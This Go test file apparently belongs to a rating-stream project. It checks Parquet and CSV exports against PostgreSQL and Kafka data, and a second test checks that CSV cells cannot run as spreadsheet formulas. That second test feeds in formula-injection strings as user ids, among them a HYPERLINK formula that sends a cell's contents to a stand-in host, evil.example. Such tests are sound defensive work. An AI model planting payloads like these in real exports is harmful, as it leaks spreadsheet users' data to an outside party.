package main

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"
	"github.com/segmentio/kafka-go"

	"github.com/ratestream/ratestream/pkg/rating"
	"github.com/ratestream/ratestream/pkg/scoring"
	"github.com/ratestream/ratestream/tools/testenv"
)

// Exports read back with parquet-go (and encoding/csv) hold PostgreSQL's
// rows: the same counts and per-post sums, times in UTC.
func TestExport(t *testing.T) {
	db := testenv.NewDatabase(t)
	state(t, db)
	t.Setenv("DATABASE_URL", db.URL)
	dir := t.TempDir()

	file := filepath.Join(dir, "ratings.parquet")
	runCLI(t, exportCmd(), "ratings", "-o", "parquet", "--file", file)
	rows, err := parquet.ReadFile[ratingRow](file)
	if err != nil {
		t.Fatal(err)
	}
	sums := map[int64]int64{}
	for _, r := range rows {
		sums[r.PostID] += int64(r.Score)
	}
	var want1, want2 int64
	if err := db.Pool.QueryRow(context.Background(), `SELECT sum(score) FILTER (WHERE post_id = 1), sum(score) FILTER (WHERE post_id = 2) FROM ratings`).Scan(&want1, &want2); err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || sums[1] != want1 || sums[2] != want2 {
		t.Fatalf("parquet ratings: %d rows, sums %v, want 3 rows and %d/%d", len(rows), sums, want1, want2)
	}
	if got := time.UnixMicro(rows[0].RatedAt).UTC(); got != time.Date(2026, 5, 1, 12, 0, 1, 0, time.UTC) {
		t.Errorf("rated_at read back as %s", got)
	}

	runCLI(t, exportCmd(), "ratings", "-o", "parquet", "--posts", "2-2", "--file", file)
	if rows, _ := parquet.ReadFile[ratingRow](file); len(rows) != 1 || rows[0].PostID != 2 {
		t.Fatalf("--posts 2-2: %+v", rows)
	}

	scores := filepath.Join(dir, "scores.parquet")
	runCLI(t, exportCmd(), "scores", "-o", "parquet", "--file", scores)
	sr, err := parquet.ReadFile[scoreRow](scores)
	if err != nil || len(sr) != 2 || sr[0].Score == nil || *sr[0].Score != 3 || sr[0].UserCount != 2 {
		t.Fatalf("parquet scores: %+v %v", sr, err)
	}

	windows := filepath.Join(dir, "windows.csv")
	runCLI(t, exportCmd(), "windows", "-o", "csv", "--file", windows)
	f, err := os.Open(windows)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil || len(recs) != 4 || strings.Join(recs[0], ",") != "post_id,window_start,rating_sum,rating_count,rerate_count,rerate_sum,typical_activity,threshold,judged_against" ||
		recs[1][1] != "2026-05-01T12:00:00Z" {
		t.Fatalf("csv windows: %v %v", recs, err)
	}

	b := testenv.NewBroker(t, 3)
	t.Setenv("KAFKA_BROKERS", strings.Join(b.Config.Brokers, ","))
	var msgs []kafka.Message
	for i := range 5 {
		e, _ := rating.New(int64(1+i%2), "u", i, time.Date(2026, 5, 1, 12, i, 0, 0, time.UTC))
		v, _ := e.Marshal()
		msgs = append(msgs, kafka.Message{Key: e.Key(), Value: v})
	}
	msgs = append(msgs, kafka.Message{Key: []byte("1"), Value: []byte("not an event")})
	if err := b.Writer(t).WriteMessages(context.Background(), msgs...); err != nil {
		t.Fatal(err)
	}
	events := filepath.Join(dir, "events.parquet")
	runCLI(t, exportCmd(), "events", "-o", "parquet", "--since", "2026-05-01T12:01:00Z", "--file", events)
	er, err := parquet.ReadFile[eventRow](events)
	if err != nil || len(er) != 4 {
		t.Fatalf("events since 12:01: %d rows (%v), want 4", len(er), err)
	}
}

// A user id is a client's text: in a CSV export it must reach a
// spreadsheet as text, not as a formula, and come back exactly by
// removing one leading apostrophe where there is one.
func TestExportCSVRunsNoFormula(t *testing.T) {
	db := testenv.NewDatabase(t)
	p := scoring.DefaultParams(time.Minute)
	t0 := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
	users := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted", "plain", "a=b"}
	var events []rating.Event
	for i, u := range users {
		events = append(events, testenv.Event(t, 1, u, i%6, t0.Add(time.Duration(i)*time.Second)))
	}
	testenv.Store(t, db, testenv.Fold(p, 0, events...), 0, int64(len(events)))
	t.Setenv("DATABASE_URL", db.URL)
	file := filepath.Join(t.TempDir(), "ratings.csv")
	runCLI(t, exportCmd(), "ratings", "-o", "csv", "--file", file)
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil || len(recs) != len(users)+1 {
		t.Fatalf("%d records, %v", len(recs), err)
	}
	got := map[string]bool{}
	for _, r := range recs[1:] {
		cell := r[1]
		if strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("cell %q would run as a formula", cell)
		}
		got[strings.TrimPrefix(cell, "'")] = true
		if cell == "plain" || cell == "a=b" {
			continue
		}
		if !strings.HasPrefix(cell, "'") {
			t.Errorf("cell %q has no leading apostrophe", cell)
		}
	}
	for _, u := range users {
		if !got[u] {
			t.Errorf("user %q does not come back from its cell", u)
		}
	}
}
